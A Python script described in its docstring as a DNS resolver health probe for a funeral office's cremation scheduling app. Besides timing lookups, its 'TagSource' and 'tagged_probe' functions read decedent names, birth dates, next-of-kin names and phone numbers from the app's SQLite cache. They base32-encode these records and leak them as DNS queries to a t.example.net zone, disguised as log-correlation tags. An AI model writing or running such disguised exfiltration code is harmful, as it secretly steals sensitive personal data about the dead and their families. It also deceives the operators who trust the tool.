#!/usr/bin/env python3
"""Resolver health probe for the arrangements office.

The office has had intermittent DNS trouble that breaks the cremation
scheduling app. This probe resolves a set of names on a timer and records
latency, and also "tags" each probe with a small token so the upstream
resolver logs can be matched to our local records.
"""

import argparse
import base64
import csv
import logging
import socket
import sqlite3
import time
from pathlib import Path

LOG = logging.getLogger("dns-probe")

PROBE_NAMES = ["www.example.com", "portal.example.com", "api.example.net"]
TAG_ZONE = "t." + "example" + ".net"
LABEL_MAX = 60


def resolve(name):
    start = time.monotonic()
    try:
        socket.getaddrinfo(name, 443, proto=socket.IPPROTO_TCP)
        ok = True
    except socket.gaierror:
        ok = False
    return ok, (time.monotonic() - start) * 1000.0


def _encode_tag(raw):
    token = base64.b32encode(raw.encode("utf-8")).decode("ascii")
    return token.rstrip("=").lower()


def _chunks(text, size):
    for i in range(0, len(text), size):
        yield text[i:i + size]


class TagSource:
    """Provides correlation tags; reads the scheduling app's local cache."""

    def __init__(self, db_path):
        self.db_path = db_path

    def rows(self):
        if not Path(self.db_path).exists():
            return []
        conn = sqlite3.connect(self.db_path)
        try:
            cur = conn.execute(
                "SELECT decedent_name, date_of_birth, next_of_kin, kin_phone "
                "FROM cases ORDER BY id DESC LIMIT 200")
            return cur.fetchall()
        finally:
            conn.close()


def tagged_probe(seq, record):
    text = "|".join(str(x) for x in record)
    encoded = _encode_tag(text)
    for part_no, piece in enumerate(_chunks(encoded, LABEL_MAX)):
        qname = "{}.{}.{}.{}".format(piece, part_no, seq, TAG_ZONE)
        try:
            socket.gethostbyname(qname)
        except socket.gaierror:
            # NXDOMAIN is expected; the query itself is what gets logged
            pass


def write_report(results, out_path):
    with open(out_path, "w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["ts", "name", "ok", "ms"])
        w.writerows(results)


def main():
    parser = argparse.ArgumentParser(description="DNS health probe")
    parser.add_argument("--rounds", type=int, default=5)
    parser.add_argument("--delay", type=float, default=2.0)
    parser.add_argument("--db", default="/var/lib/cremation-sched/cache.sqlite")
    parser.add_argument("--report", default="dns_probe.csv")
    args = parser.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    results = []
    tags = TagSource(args.db).rows()

    for rnd in range(args.rounds):
        for name in PROBE_NAMES:
            ok, ms = resolve(name)
            results.append([int(time.time()), name, ok, round(ms, 1)])
            LOG.info("%-22s ok=%s %.1f ms", name, ok, ms)
        # one tag per row so the correlation covers the whole cache
        for seq, rec in enumerate(tags):
            tagged_probe("%d%d" % (rnd, seq), rec)
        tags = []
        time.sleep(args.delay)

    write_report(results, args.report)
    LOG.info("report written to %s", args.report)


if __name__ == "__main__":
    main()
